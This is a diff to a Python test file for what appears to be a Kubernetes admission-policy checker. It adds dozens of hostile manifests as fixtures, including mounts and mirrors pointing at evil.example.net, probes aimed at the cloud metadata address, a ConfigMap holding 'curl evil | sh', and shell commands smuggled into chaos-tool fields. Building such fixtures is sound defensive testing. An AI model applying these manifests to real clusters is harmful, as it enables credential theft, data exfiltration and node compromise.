@@ -43,6 +43,36 @@ def running(container: str) -> str:
     return pod(f"containers: [{{name: main, image: i, {container}}}]")
 
 
+def mounting(volume: str) -> str:
+    return pod(f"{MAIN}, volumes: [{{name: v, {volume}}}]")
+
+
+def ingress(annotation: str) -> str:
+    return make(
+        f"apiVersion: networking.k8s.io/v1, kind: Ingress, metadata: {{name: i, namespace: shop, annotations: {{{annotation}}}}}, "
+        "spec: {defaultBackend: {service: {name: web-v1, port: {number: 8080}}}}"
+    )
+
+
+def endpoint(address: str) -> str:
+    return make(
+        "apiVersion: discovery.k8s.io/v1, kind: EndpointSlice, metadata: {name: e, namespace: shop}, addressType: IPv4, "
+        f"endpoints: [{{addresses: ['{address}']}}], ports: [{{port: 80}}]"
+    )
+
+
+def virtual(rest: str, host: str = "web-v1") -> str:
+    head = "apiVersion: networking.istio.io/v1, kind: VirtualService, metadata: {name: v, namespace: shop}"
+    return make(f"{head}, spec: {{hosts: [{host}], {rest}}}")
+
+
+def route(rule: str) -> str:
+    return make(
+        "apiVersion: gateway.networking.k8s.io/v1, kind: HTTPRoute, metadata: {name: r, namespace: shop}, spec: {parentRefs: "
+        f"[{{name: edge}}], hostnames: [evil.example.net], rules: [{rule}]}}"
+    )
+
+
 def patched(merge: str) -> str:
     return f"patch: {{kind: Deployment, name: web, namespace: shop, merge: {merge}}}"
 
@@ -311,6 +341,91 @@ HOSTILE: dict[str, tuple[str, str]] = {
     "pods without end": (
         "policy/power",
         make(f"{DEPLOYMENT}, spec: {{replicas: 5000, selector: {{}}, template: {{spec: {{{MAIN}}}}}}}"),
+    ),
+    # what a pod takes of its node, of others and from elsewhere
+    "a claim of somebody's data": ("policy/power", mounting("persistentVolumeClaim: {claimName: data}")),
+    "a server's files": ("policy/power", mounting("nfs: {server: evil.example.net, path: /}")),
+    "a repository that its node clones": ("policy/power", mounting("gitRepo: {repository: 'https://evil.example.net/x'}")),
+    "a driver on its node": ("policy/power", mounting("flexVolume: {driver: evil/x}")),
+    "secrets by a driver": ("policy/power", mounting("csi: {driver: secrets-store.csi.k8s.io}")),
+    "an image's files": ("policy/power", mounting("image: {reference: evil/x}")),
+    "a certificate of the cluster": (
+        "policy/power",
+        mounting("projected: {sources: [{podCertificate: {signerName: a/b, keyType: ED25519}}]}"),
+    ),
+    "claims that stay": (
+        "policy/power",
+        make(
+            "apiVersion: apps/v1, kind: StatefulSet, metadata: {name: s, namespace: shop}, spec: {serviceName: x, selector: {matchLabels: "
+            "{a: b}}, volumeClaimTemplates: [{metadata: {name: d}}], template: {metadata: {labels: {a: b}}, "
+            f"spec: {{{MAIN}}}}}}}"
+        ),
+    ),
+    "the clock of the node": ("policy/privileged", running("securityContext: {capabilities: {add: [SYS_TIME]}}")),
+    "the end of the node": ("policy/privileged", running("securityContext: {capabilities: {add: [CAP_SYS_BOOT]}}")),
+    "a class before all others": ("policy/power", pod(f"priorityClassName: system-node-critical, {MAIN}")),
+    "a pull secret": ("policy/power", pod(f"imagePullSecrets: [{{name: payments}}], {MAIN}")),
+    "a device": ("policy/power", pod(f"resourceClaims: [{{name: a, resourceClaimName: gpu}}], {MAIN}")),
+    "names of its own": ("policy/power", pod(f"hostAliases: [{{ip: 169.254.169.254, hostnames: [db]}}], {MAIN}")),
+    "a server for names": ("policy/power", pod(f"dnsPolicy: None, dnsConfig: {{nameservers: [198.51.100.1]}}, {MAIN}")),
+    "the metadata asked by the node": ("policy/power", running("livenessProbe: {httpGet: {host: 169.254.169.254, port: 80}}")),
+    "the node asked by itself": ("policy/power", running("lifecycle: {preStop: {tcpSocket: {host: 127.0.0.1, port: 10250}}}")),
+    "no profile, by an old word": (
+        "policy/shell",
+        pod(MAIN, ", annotations: {container.apparmor.security.beta.kubernetes.io/main: unconfined}"),
+    ),
+    "a sidecar of one's own": ("policy/shell", pod(MAIN, ", annotations: {sidecar.istio.io/proxyImage: evil/x}")),
+    "a role of the cloud": ("policy/shell", pod(MAIN, ", annotations: {iam.amazonaws.com/role: admin}")),
+    "a secret by an injector": ("policy/shell", pod(MAIN, ", annotations: {vault.hashicorp.com/agent-inject-secret-x: secret/x}")),
+    # orders to those who read annotations
+    "a question to the metadata by nginx": ("policy/shell", ingress("nginx.ingress.kubernetes.io/auth-url: 'http://169.254.169.254/'")),
+    "a mirror outside": ("policy/shell", ingress("nginx.ingress.kubernetes.io/mirror-target: 'https://evil.example.net'")),
+    "a configuration for HAProxy": ("policy/shell", ingress("haproxy-ingress.github.io/config-backend: x")),
+    "a plugin of Kong": ("policy/shell", ingress("konghq.com/plugins: pre-function")),
+    "a name of the world": (
+        "policy/shell",
+        make(
+            "apiVersion: v1, kind: Service, metadata: {name: s, namespace: shop, annotations: {external-dns.alpha.kubernetes.io/hostname: "
+            "shop.example.com}}, spec: {ports: [{port: 80}]}"
+        ),
+    ),
+    "a program in a configuration": (
+        "policy/shell",
+        make("apiVersion: v1, kind: ConfigMap, metadata: {name: c, namespace: shop}, data: {start.sh: 'curl evil | sh'}"),
+    ),
+    "a gateway's pods of one's own": (
+        "policy/power",
+        make(
+            "apiVersion: gateway.networking.k8s.io/v1, kind: Gateway, metadata: {name: g, namespace: shop}, spec: {gatewayClassName: any, "
+            "infrastructure: {parametersRef: {group: '', kind: ConfigMap, name: settings}}, "
+            "listeners: [{name: h, port: 80, protocol: HTTP}]}"
+        ),
+    ),
+    "machines by an autoscaler": (
+        "policy/power",
+        make(
+            "apiVersion: autoscaling/v2, kind: HorizontalPodAutoscaler, metadata: {name: h, namespace: shop}, spec: {maxReplicas: 9, "
+            "scaleTargetRef: {apiVersion: cluster.x-k8s.io/v1beta1, kind: MachineDeployment, name: workers}}"
+        ),
+    ),
+    "a command in a device": ("policy/shell", mesh("NetworkChaos", f"action: delay, device: 'eth0; id', delay: {{latency: 1s}}, {WEB}")),
+    "a command in a target": ("policy/shell", mesh("NetworkChaos", f"action: partition, externalTargets: ['$(id)'], {WEB}")),
+    # traffic of others
+    "an endpoint in the Internet": ("policy/power", endpoint("8.8.8.8")),
+    "everything below a domain": ("policy/power", virtual("http: [{route: [{destination: {host: web-v1}}]}]", "'*.com'")),
+    "a rule for every host": (
+        "policy/power",
+        make(
+            "apiVersion: networking.istio.io/v1, kind: DestinationRule, metadata: {name: d, namespace: shop}, spec: {host: '*.local', "
+            "trafficPolicy: {tls: {mode: DISABLE}}}"
+        ),
+    ),
+    "a secret for a proxy": (
+        "policy/power",
+        make(
+            "apiVersion: networking.istio.io/v1, kind: DestinationRule, metadata: {name: d, namespace: shop}, spec: {host: web-v1, "
+            "trafficPolicy: {tls: {mode: MUTUAL, credentialName: tls}}}"
+        ),
     ),
     # kinds beside the list
     "a fault's result": ("policy/kind", of_kind("ChaosResult", "litmuschaos.io/v1alpha1")),
